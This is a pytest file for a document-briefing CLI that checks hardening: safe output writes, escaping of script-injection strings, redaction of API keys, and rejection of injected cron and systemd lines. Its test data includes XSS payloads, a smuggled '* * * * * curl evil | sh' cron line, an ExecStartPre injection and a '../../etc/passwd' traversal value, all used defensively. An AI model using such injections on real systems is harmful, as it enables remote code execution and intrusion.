@@ -1,0 +1,453 @@
+"""Outputs, stores, escaping, secrets and values under hostile conditions.
+
+Every case ends in one ``Error:`` line (exit 1, or 2 for a bad flag) or a clean result, with
+no traceback, nothing half-written, yesterday's files kept and no secret in any stream.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+import fcntl
+import json
+import os
+import re
+import sqlite3
+import subprocess
+import sys
+import time
+from collections.abc import Sequence
+from pathlib import Path
+
+import pytest
+from daily_samples import BRIDGE_VOTE, FERRY_STRIKE, ORCHARD_FROST
+
+from briefing.chunk import Chunk
+from briefing.cli import main
+from briefing.config import Settings
+from briefing.daily.config import DailyConfig
+from briefing.daily.deliver import command_environment, run_command
+from briefing.daily.run import run_daily
+from briefing.daily.store import Store
+from briefing.engines.offline import OfflineEngine
+from briefing.models import Document, Fact
+from briefing.sanitize import remember_secret
+
+DAY1 = dt.datetime(2026, 11, 19, 7, 0, tzinfo=dt.UTC)
+DAY2 = DAY1 + dt.timedelta(days=1)
+
+
+def _doc(tmp: Path, name: str = "ferry.txt", text: str = FERRY_STRIKE) -> Path:
+    path = tmp / name
+    path.write_text(text)
+    return path
+
+
+def _one_error(err: str, needle: str) -> str:
+    assert "Traceback" not in err
+    lines = [ln for ln in err.splitlines() if ln.startswith("Error:")]
+    assert len(lines) == 1, err
+    assert needle in lines[0], lines[0]
+    return lines[0]
+
+
+def _cli(args: Sequence[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
+    code = main(list(args))
+    out = capsys.readouterr()
+    return code, out.out, out.err
+
+
+# ---------------------------------------------------------------------------- -o targets
+
+
+def test_o_refuses_links_devices_and_folders(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    doc = _doc(tmp_path)
+    precious = tmp_path / "precious.txt"
+    precious.write_text("keep me")
+    link = tmp_path / "brief.md"
+    link.symlink_to(precious)
+    for target, needle in ((link, "symbolic link"), ("/dev/null", "not a regular file")):
+        code, out, err = _cli(["build", str(doc), "-o", str(target)], capsys)
+        assert code == 1 and out == ""
+        _one_error(err, needle)
+    folder = tmp_path / "out.md"
+    folder.mkdir()
+    code, _, err = _cli(["build", str(doc), "-o", str(folder)], capsys)
+    assert code == 1
+    _one_error(err, "directory")
+    assert link.is_symlink() and precious.read_text() == "keep me"
+    assert os.listdir(folder) == []
+
+
+def test_o_into_a_folder_that_cannot_be_written(capsys: pytest.CaptureFixture[str]) -> None:
+    code, out, err = _cli(["build", "examples", "-o", "/proc/brief.md"], capsys)
+    assert code == 1 and out == ""
+    _one_error(err, "/proc/brief.md")
+
+
+def test_stale_temporaries_are_removed_and_live_ones_kept(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    doc = _doc(tmp_path)
+    stale = tmp_path / ".brief.md.k1ll3d_0.tmp"
+    stale.write_text("half a brief")
+    os.utime(stale, (time.time() - 60, time.time() - 60))
+    live = tmp_path / ".brief.md.wr1t1ng0.tmp"
+    live.write_text("being written")
+    os.utime(live, (time.time() - 60, time.time() - 60))
+    unrelated = tmp_path / ".notes.tmp"
+    unrelated.write_text("not ours")
+    with live.open("rb") as holder:
+        fcntl.flock(holder.fileno(), fcntl.LOCK_EX)
+        code, _, err = _cli(["build", str(doc), "-o", str(tmp_path / "brief.md")], capsys)
+    assert code == 0, err
+    assert not stale.exists() and live.exists() and unrelated.exists()
+    assert sorted(p.name for p in tmp_path.glob(".*.tmp")) == [
+        ".brief.md.wr1t1ng0.tmp",
+        ".notes.tmp",
+    ]
+
+
+# ---------------------------------------------------------------------------- stdout
+
+
+def test_pdf_goes_to_a_redirected_stdout(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsysbinary: pytest.CaptureFixture[bytes]
+) -> None:
+    import briefing.cli.build
+
+    pdf = b"%PDF-1.7\n\x00\xff\xfe binary body"  # rendering itself is tested in test_pdf.py
+    monkeypatch.setattr(briefing.cli.build, "render_brief", lambda *a, **k: pdf)
+    code = main(["build", str(_doc(tmp_path)), "-f", "pdf"])
+    out = capsysbinary.readouterr()
+    assert code == 0 and out.out == pdf and b"Error" not in out.err
+
+
+def test_pdf_to_a_terminal_is_refused_before_rendering(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    master, slave = os.openpty()
+    terminal = os.fdopen(slave, "w")
+    rendered: list[bool] = []
+    import briefing.pipeline
+
+    monkeypatch.setattr(briefing.pipeline, "build_brief", lambda *a, **k: rendered.append(True))
+    monkeypatch.setattr(sys, "stdout", terminal)
+    try:
+        code = main(["build", str(_doc(tmp_path)), "-f", "pdf"])
+    finally:
+        monkeypatch.undo()
+        terminal.close()
+        os.close(master)
+    err = capsys.readouterr().err
+    assert code == 1 and rendered == []
+    _one_error(err, "terminal")
+
+
+def _run_module(args: str, tmp: Path) -> subprocess.CompletedProcess[str]:
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("OPENAI_", "BRIEFING_"))}
+    return subprocess.run(
+        ["bash", "-c", f"{sys.executable} -m briefing {args}"],
+        capture_output=False,
+        stderr=subprocess.PIPE,
+        text=True,
+        timeout=60,
+        cwd=tmp,
+        env=env,
+        check=False,
+    )
+
+
+def test_a_full_device_on_stdout_is_one_error_line(tmp_path: Path) -> None:
+    _doc(tmp_path)
+    full = _run_module("build ferry.txt -f json > /dev/full", tmp_path)
+    assert full.returncode == 1
+    _one_error(full.stderr, "stdout")
+    assert full.stderr.count("\n") == 1  # nothing from the interpreter's exit either
+
+
+def test_a_closed_stdout_is_one_error_line(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.setattr(sys, "stdout", None)  # what Python sets when fd 1 was closed
+    code = main(["build", str(_doc(tmp_path))])
+    monkeypatch.undo()
+    assert code == 1
+    _one_error(capsys.readouterr().err, "stdout: is closed")
+
+
+# ---------------------------------------------------------------------------- the daily store
+
+
+def _daily(tmp: Path, **extra: object) -> DailyConfig:
+    inbox = tmp / "inbox"
+    inbox.mkdir(exist_ok=True)
+    values: dict[str, object] = {"sources": [str(inbox)], "out": tmp / "briefs"}
+    values.update(extra)
+    return DailyConfig.model_validate(values)
+
+
+def test_daily_out_onto_a_file_is_one_line(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    (tmp_path / "inbox").mkdir()
+    _doc(tmp_path / "inbox")
+    taken = tmp_path / "briefs"
+    taken.write_text("a file")
+    code, _, err = _cli(["daily", str(tmp_path / "inbox"), "--out", str(taken)], capsys)
+    assert code == 1 and taken.read_text() == "a file"
+    _one_error(err, str(taken))
+
+
+def test_store_errors_after_opening_keep_yesterdays_brief(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    inbox = tmp_path / "inbox"
+    inbox.mkdir()
+    _doc(inbox)
+    args = ["daily", str(inbox), "--out", str(tmp_path / "briefs"), "--date", "2026-11-19"]
+    assert main(args) == 0
+    capsys.readouterr()
+    latest = (tmp_path / "briefs" / "latest.md").read_bytes()
+    _doc(inbox, "bridge.txt", BRIDGE_VOTE)
+
+    def full_disk(self: Store, *a: object, **k: object) -> None:
+        raise sqlite3.OperationalError("database or disk is full")
+
+    monkeypatch.setattr(Store, "update_run", full_disk)
+    code, _, err = _cli([*args[:-1], "2026-11-20"], capsys)
+    assert code == 1
+    _one_error(err, "briefing.sqlite")
+    assert (tmp_path / "briefs" / "latest.md").read_bytes() == latest
+    assert not (tmp_path / "briefs" / "2026-11-20.md").exists()
+
+
+def test_an_output_that_cannot_be_written_fails_the_run_in_one_line(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    inbox = tmp_path / "inbox"
+    inbox.mkdir()
+    _doc(inbox)
+    out = tmp_path / "briefs"
+    args = ["daily", str(inbox), "--out", str(out)]
+    assert main([*args, "--date", "2026-11-19"]) == 0
+    latest = (out / "latest.md").read_bytes()
+    (out / "2026-11-20.md").mkdir()
+    _doc(inbox, "bridge.txt", BRIDGE_VOTE)
+    capsys.readouterr()
+    code, _, err = _cli([*args, "--date", "2026-11-20"], capsys)
+    assert code == 1
+    _one_error(err, "2026-11-20.md")
+    assert (out / "latest.md").read_bytes() == latest
+
+
+# ---------------------------------------------------------------------------- escaping
+
+
+def test_source_strings_are_escaped_in_markdown(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    hostile = (
+        "<img src=x onerror=alert(1)> Ferry strike [click](javascript:alert(2))\n"
+        "URL: javascript:alert(3)\n"
+        "Source: Wire`` <script>alert(4)</script>\n\n" + FERRY_STRIKE
+    )
+    name = "a`b``c.txt"
+    _doc(tmp_path, name, hostile)
+    _doc(tmp_path, "bridge.txt", "Title\nURL: https://example.org/ok?a=1\n\n" + BRIDGE_VOTE)
+    code, out, err = _cli(["build", str(tmp_path)], capsys)
+    assert code == 0, err
+    for live in (r"(?<!\\)<img", r"(?<!\\)<script", r"(?<!\\)\]\(javascript", r"<javascript"):
+        assert re.search(live, out) is None, live  # only escaped forms are left
+    assert r"\<img src=x" in out and "javascript:alert(3)" in out  # shown, as text
+    assert "<https://example.org/ok?a=1>" in out
+    assert "```" + f"{tmp_path / name}" + "```" in out  # a code span its name cannot close
+
+
+def test_html_links_only_http_urls(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    pytest.importorskip("jinja2")
+    hostile = "Ferry\nURL: javascript:alert(3)\n\n" + FERRY_STRIKE
+    _doc(tmp_path, "x.txt", hostile)
+    code, out, err = _cli(["build", str(tmp_path), "-f", "html"], capsys)
+    assert code == 0, err
+    assert 'href="javascript' not in out and "javascript:alert(3)" in out
+
+
+# ---------------------------------------------------------------------------- secrets
+
+
+class _LeakingEngine(OfflineEngine):
+    key = ""
+
+    def extract_facts(
+        self, topic: str, documents: Sequence[Document], chunks: Sequence[Chunk]
+    ) -> list[Fact]:
+        raise RuntimeError(f"endpoint said: invalid key {self.key}")
+
+
+def test_a_secret_in_an_error_is_not_stored_in_the_run_history(tmp_path: Path) -> None:
+    key = "sk-test-history-" + "x" * 20
+    remember_secret(key)
+    config = _daily(tmp_path)
+    _doc(tmp_path / "inbox")
+    engine = _LeakingEngine()
+    engine.key = key
+    with pytest.raises(RuntimeError):
+        run_daily(config, now=DAY1, settings=Settings(cache=False), engine=engine)
+    with Store(config.store_path) as store:
+        [run] = store.runs()
+    assert run.error is not None and "[redacted]" in run.error and key not in run.error
+    assert key.encode() not in config.store_path.read_bytes()
+
+
+def test_delivery_command_gets_no_secrets_unless_asked(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-env-key-123456")
+    monkeypatch.setenv("BRIEFING_SMTP_PASSWORD", "smtp-password-654321")
+    monkeypatch.setenv("UNRELATED", "kept")
+    brief = _doc(tmp_path, "brief.md", "# brief")
+    dump = "import json, os, sys; json.dump(dict(os.environ), open(sys.argv[1] + '.env', 'w'))"
+    run_command([sys.executable, "-c", dump, "{path}"], brief)
+    seen = json.loads((tmp_path / "brief.md.env").read_text())
+    assert seen["UNRELATED"] == "kept"
+    assert "OPENAI_API_KEY" not in seen and "BRIEFING_SMTP_PASSWORD" not in seen
+    run_command(
+        [sys.executable, "-c", dump, "{path}"], brief, env=command_environment(keep_secrets=True)
+    )
+    seen = json.loads((tmp_path / "brief.md.env").read_text())
+    assert seen["OPENAI_API_KEY"] == "sk-test-env-key-123456"
+
+
+# ---------------------------------------------------------------------------- schedule
+
+
+@pytest.mark.parametrize(
+    "extra",
+    [
+        ["--cron", "--log", "x.log\n* * * * * curl evil | sh"],
+        ["--cron", "--workdir", "/tmp\n* * * * * id"],
+        ["--systemd", "--workdir", "/tmp\nExecStartPre=/bin/id"],
+        ["--cron", "--workdir", "/tmp\x1b[2J"],
+    ],
+)
+def test_schedule_refuses_newlines_and_control_characters(
+    tmp_path: Path, extra: list[str], capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, out, err = _cli(["schedule", *extra, "--dir", str(tmp_path / "units")], capsys)
+    assert code == 1 and out == ""
+    _one_error(err, "newline or control character")
+    assert "\x1b" not in err
+    assert not (tmp_path / "units").exists()
+
+
+# ---------------------------------------------------------------------------- values
+
+
+@pytest.mark.parametrize(
+    ("table", "needle"),
+    [
+        ("window_hours = 1e300", "window_hours"),
+        ("window_hours = inf", "window_hours"),
+        ("window_hours = nan", "window_hours"),
+        ("retention_days = 999999", "retention_days"),
+        ("http_timeout_s = inf", "http_timeout_s"),
+        ('timezone = "America"', "timezone"),
+        ('timezone = "../../etc/passwd"', "timezone"),
+        ("max_entries_per_feed = 0", "max_entries_per_feed"),
+    ],
+)
+def test_daily_settings_out_of_range_are_one_line(
+    tmp_path: Path, table: str, needle: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    config = tmp_path / "briefing.toml"
+    config.write_text(f'[daily]\nsources = ["inbox"]\n{table}\n')
+    (tmp_path / "inbox").mkdir()
+    _doc(tmp_path / "inbox")
+    code, _, err = _cli(["daily", "--config", str(config)], capsys)
+    assert code == 1
+    _one_error(err, needle)
+    assert not (tmp_path / "briefs").exists()
+
+
+@pytest.mark.parametrize(
+    ("args", "code", "needle"),
+    [
+        (["build", "{doc}", "--max-doc-mb", "nan"], 2, "--max-doc-mb"),
+        (["build", "{doc}", "--max-doc-mb", "inf"], 2, "--max-doc-mb"),
+        (["build", "{doc}", "--timeout", "nan"], 1, "timeout_s"),
+        (["build", "{doc}", "--date", "0001-01-01"], 2, "--date"),
+        (["daily", "{dir}", "--date", "0001-01-01", "--timezone", "Asia/Tokyo"], 2, "--date"),
+        (["daily", "{dir}", "--timezone", "America"], 1, "America"),
+    ],
+)
+def test_flags_out_of_range_are_one_line(
+    tmp_path: Path, args: list[str], code: int, needle: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    doc = _doc(tmp_path)
+    argv = [a.format(doc=doc, dir=tmp_path) for a in args]
+    if argv[0] == "daily":
+        argv += ["--out", str(tmp_path / "briefs")]
+    got, _, err = _cli(argv, capsys)
+    assert got == code
+    assert "Traceback" not in err
+    lines = [ln for ln in err.splitlines() if needle in ln]
+    assert len(lines) == 1 and (lines[0].startswith("Error:") or "error:" in lines[0])
+
+
+def test_a_config_that_is_not_utf8_is_one_line(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    config = tmp_path / "briefing.toml"
+    config.write_bytes('[build]\ntopic = "caf\u00e9"\n'.encode("cp1252"))
+    code, _, err = _cli(
+        ["build", str(_doc(tmp_path, "o.txt", ORCHARD_FROST)), "--config", str(config)], capsys
+    )
+    assert code == 1
+    _one_error(err, "not UTF-8")
+
+
+@pytest.mark.parametrize("limit", ["0", "-1", "99999999999999999999999", "x"])
+def test_history_limit_out_of_range_is_a_usage_error(
+    limit: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code = main(["history", "--limit", limit])
+    err = capsys.readouterr().err
+    assert code == 2 and "--limit" in err and "Traceback" not in err
+
+
+def test_names_reach_no_page_with_a_control_character(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    hostile = "Ferry \x1b[31mstrike\x1b[0m\u202e\nSource: Wire\x07 Service\n\n" + FERRY_STRIKE
+    _doc(tmp_path, "evil\x1b]0;title\x07.txt", hostile)
+    for fmt in ("md", "html", "json"):
+        code, out, err = _cli(["build", str(tmp_path), "-f", fmt], capsys)
+        assert code == 0, err
+        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202e]", out), fmt
+        assert "\\u001b" not in out and "\\u0007" not in out  # nor escaped in the JSON
+
+
+def test_daily_removes_what_a_killed_run_was_writing(tmp_path: Path) -> None:
+    config = _daily(tmp_path)
+    _doc(tmp_path / "inbox")
+    out = tmp_path / "briefs"
+    out.mkdir()
+    killed = out / ".2026-11-18.pdf.abcd1234.tmp"  # another day's name: a run killed mid-write
+    killed.write_bytes(b"%PDF half")
+    os.utime(killed, (time.time() - 60, time.time() - 60))
+    mine = out / "notes.tmp"  # not a name briefing makes
+    mine.write_text("keep")
+    run_daily(config, now=DAY1, settings=Settings(cache=False))
+    assert not killed.exists() and mine.exists()
+
+
+def test_every_command_reports_a_closed_stdout_in_one_line(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.setattr(sys, "stdout", None)
+    code = main(["schedule", "--cron"])
+    monkeypatch.undo()
+    assert code == 1
+    _one_error(capsys.readouterr().err, "stdout: is closed")
